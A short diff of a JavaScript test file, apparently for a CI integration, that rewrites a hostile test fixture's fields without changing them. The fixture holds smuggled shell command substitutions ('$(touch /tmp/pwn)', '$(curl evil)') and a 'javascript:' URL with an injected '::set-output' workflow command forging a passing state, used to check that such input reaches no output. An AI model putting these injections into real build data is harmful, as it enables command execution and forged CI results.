@@ -144,7 +144,9 @@ it('the words of the service form no workflow command, and no forged output', as
 
 it('a field of a build that is not valid reaches no output', async () => {
   const hostile = {
-    ...{ id: '$(touch /tmp/pwn)', number: 31, state: '$(curl evil)' },
+    id: '$(touch /tmp/pwn)',
+    number: 31,
+    state: '$(curl evil)',
     web_url: 'javascript:x\n::set-output name=state::passed',
     pipeline: { provider: { webhook_url: '' } },
   };
